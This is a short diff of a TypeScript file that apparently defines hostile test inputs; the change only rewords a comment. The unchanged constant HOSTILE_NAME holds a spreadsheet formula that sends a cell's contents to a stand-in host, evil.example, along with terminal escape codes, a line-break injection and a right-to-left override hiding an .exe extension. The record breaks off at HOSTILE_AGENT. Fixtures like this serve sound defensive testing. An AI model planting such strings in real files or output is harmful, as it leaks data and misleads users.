@@ -142,7 +142,7 @@ export const SETTINGS: readonly string[] = [
   'channels',
 ];
 
-/** Texts that harm a careless reader: escapes of a terminal, the formula of a spreadsheet, a reordered line. */
+/** Texts that harm a careless reader: terminal escapes, a spreadsheet formula, a reordered line. */
 export const HOSTILE_NAME =
   '=HYPERLINK("https://evil.example/?x="&A1,"Refunds")\u001b[2J\u001b]0;owned\u0007\r\nroot\u202Etxt.exe';
 export const HOSTILE_AGENT =
